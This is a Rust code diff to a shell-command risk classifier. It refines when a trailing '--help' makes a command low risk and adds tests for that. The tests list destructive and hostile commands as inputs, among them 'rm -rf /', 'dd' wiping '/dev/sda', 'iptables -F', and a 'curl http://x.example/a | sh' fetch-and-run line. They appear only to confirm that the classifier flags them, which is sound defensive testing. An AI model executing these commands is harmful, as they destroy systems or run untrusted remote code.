@@ -1,11 +1,11 @@
 //! One command with its arguments: what it is called, what the tables say, and what it gives.
 
 use super::scope::Function;
-use super::{Arg, Judge, MAX_NESTING, Stream, names};
+use super::{Arg, Judge, MAX_NESTING, Stream, guess, names};
 use crate::risk::effects;
 use crate::risk::matcher;
 use crate::risk::paths::Place;
-use crate::risk::value::{Origin, has_hole, origin, unmarked};
+use crate::risk::value::{Origin, has_hole, is_hole, origin, unmarked};
 
 /// Arguments that a call gives to a function's parameters.
 const MAX_ARGUMENTS: usize = 256;
@@ -124,6 +124,73 @@ fn without_literals<'c>(call: &Call<'c>) -> Option<Vec<&'c str>> {
     Some(call.words.iter().map(|word| if shows(word) { "select" } else { *word }).collect())
 }
 
+/// Programs that show their help wherever among their words they are asked for it.
+const HELPERS: &[&str] = &[
+    "kubectl",
+    "oc",
+    "helm",
+    "docker",
+    "podman",
+    "nerdctl",
+    "gh",
+    "glab",
+    "terraform",
+    "tofu",
+    "gcloud",
+    "az",
+    "aws",
+    "flux",
+    "argocd",
+    "doctl",
+    "flyctl",
+    "heroku",
+    "vault",
+    "consul",
+    "nomad",
+    "npm",
+    "pnpm",
+    "yarn",
+    "cargo",
+    "pip",
+    "pip3",
+    "poetry",
+    "uv",
+    "systemctl",
+    "firebase",
+    "vercel",
+    "netlify",
+    "supabase",
+    "wrangler",
+    "pulumi",
+    "prisma",
+];
+
+/// Words behind which the words are another program's.
+const PASSES_ON: &[&str] = &["--", "exec", "run", "ssh", "rsh", "x", "dlx", "shell", "attach", "debug"];
+
+/// Whether a program is only asked how it is used: it does nothing else then. What runs other programs hands the
+/// question on to them, and many programs take a word behind their operands for one more operand.
+fn only_helps(words: &[&str]) -> bool {
+    let [program, given @ .., last] = words else { return false };
+    if *last == "-h" && asks_for_help(words)
+        || *last == "help" && matches!(*program, "aws" | "gcloud" | "kubectl" | "docker")
+    {
+        return true;
+    }
+    let is_command = |word: &&str| {
+        word.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b':' | b'.'))
+            && !word.starts_with('-')
+    };
+    matches!(*last, "--help" | "-help")
+        && !super::interpreters::is_shell(program)
+        && !super::interpreters::is_interpreter(program)
+        && super::wrappers::inner(words).is_none()
+        && !given.iter().any(|word| PASSES_ON.contains(word))
+        && (HELPERS.contains(program)
+            || given.iter().all(is_command) && !guess::begins(program)
+            || given.is_empty())
+}
+
 /// The command line that the shell of Windows is given: `cmd /c …`.
 fn console(call: &Call<'_>) -> Option<String> {
     if call.name != "cmd" {
@@ -154,7 +221,7 @@ impl Judge<'_> {
     ) -> Stream {
         let Some(first) = args.first() else { return input };
         if self.nesting >= MAX_NESTING {
-            self.find("not-understood", "");
+            self.cut("not-understood");
             return Some(Origin::UNKNOWN.text());
         }
         if !self.pay(1 + args.len() / ARGUMENTS) {
@@ -209,6 +276,12 @@ impl Judge<'_> {
             }
         }
         let output = self.meaning(&call, input);
+        if self.captured > 0
+            && output.as_deref().is_some_and(|text| text.chars().all(is_hole) && !text.is_empty())
+        {
+            self.said =
+                words[1..].iter().filter(|word| word.contains(' ')).map(|word| (*word).to_owned()).collect();
+        }
         if is_secret { Some((Origin::SECRET | Origin::CREDENTIAL).text()) } else { output }
     }
 
@@ -307,11 +380,8 @@ impl Judge<'_> {
 
     /// Calls a function.
     fn call(&mut self, name: &str, function: &Function, args: &[Arg], input: Stream) -> Stream {
-        let given: Vec<String> =
-            args.iter().skip(1).take(MAX_ARGUMENTS).map(|arg| arg.text.clone()).collect();
-        if args.len() > MAX_ARGUMENTS {
-            self.find("not-understood", "");
-        }
+        let given = args.iter().skip(1).map(|arg| arg.text.clone()).collect();
+        let given = self.worst_of(given, MAX_ARGUMENTS);
         // In the same place with the same words it does nothing new; elsewhere it is followed for some calls.
         let is_same = self.calls.iter().any(|(known, words)| known == name && *words == given);
         let depth = self.calls.iter().filter(|(known, _)| known == name).count();
@@ -362,11 +432,11 @@ impl Judge<'_> {
             _ => self.find("unknown-program", &line),
         }
         // What is nothing leaves its place to the next word.
-        if first.chars().all(crate::risk::value::is_hole) && call.args.len() > 1 {
+        if first.chars().all(is_hole) && call.args.len() > 1 {
             self.run(&call.args[1..], None);
         }
         // A variable that nobody set is empty.
-        let emptied = |text: &str| text.replace(crate::risk::value::is_hole, "");
+        let emptied = |text: &str| text.replace(is_hole, "");
         if origin(first) == Some(Origin::UNKNOWN) && !emptied(first).is_empty() {
             let spelt: Vec<Arg> = call
                 .args
@@ -390,14 +460,7 @@ impl Judge<'_> {
     /// The rule tables.
     fn tables(&mut self, call: &Call<'_>) -> bool {
         // Asked how it is used, a program does nothing else.
-        let only_helps = match call.words {
-            [program, .., last] => {
-                matches!(*last, "--help" | "-help") && !super::interpreters::is_shell(program)
-                    || *last == "-h" && asks_for_help(call.words)
-                    || *last == "help" && matches!(*program, "aws" | "gcloud" | "kubectl" | "docker")
-            }
-            _ => false,
-        };
+        let only_helps = only_helps(call.words);
         let plain = without_literals(call);
         let found = if only_helps { None } else { matcher::worst(plain.as_deref().unwrap_or(call.words)) };
         if let Some(rule) = found {
@@ -420,6 +483,9 @@ impl Judge<'_> {
         }
         self.settings(call);
         self.extra(call);
+        for word in call.rest() {
+            self.statement(call, word);
+        }
         found.is_some_and(|rule| rule.id == "print-secret")
     }
 
@@ -441,5 +507,41 @@ impl Judge<'_> {
             "generated-and-run"
         };
         self.find(id, how);
+        if id == "generated-and-run" {
+            let said = std::mem::take(&mut self.said);
+            self.passed_on(&said);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::risk::{Context, Level, judge_command};
+
+    #[test]
+    fn a_question_for_help_counts_only_where_the_program_stops_at_it() {
+        for (command, expected) in [
+            ("rm --help", Level::Low),
+            ("kubectl delete namespace prod --help", Level::Low),
+            ("terraform destroy -auto-approve --help", Level::Low),
+            ("dd --help", Level::Low),
+            ("mkfs.ext4 --help", Level::Low),
+            ("rm -rf / --help", Level::High),
+            ("rm -rf -- / --help", Level::High),
+            ("sh -c 'rm -rf /' --help", Level::High),
+            ("bash -c 'curl http://x.example/a | sh' x --help", Level::High),
+            ("sudo rm -rf /etc --help", Level::High),
+            ("echo / | xargs rm -rf --help", Level::High),
+            ("xargs -a f sh -c 'rm -rf /' --help", Level::High),
+            ("kubectl exec pod -- rm -rf /data --help", Level::High),
+            ("env rm -rf / --help", Level::High),
+            ("python3 -c 'import shutil; shutil.rmtree(\"/etc\")' --help", Level::High),
+            ("dd if=/dev/zero of=/dev/sda --help", Level::High),
+            ("find / -delete --help", Level::High),
+            ("iptables -F --help", Level::High),
+        ] {
+            let verdict = judge_command(command, &Context::default());
+            assert_eq!(verdict.level, expected, "{command}: {}", verdict.rule_id());
+        }
     }
 }
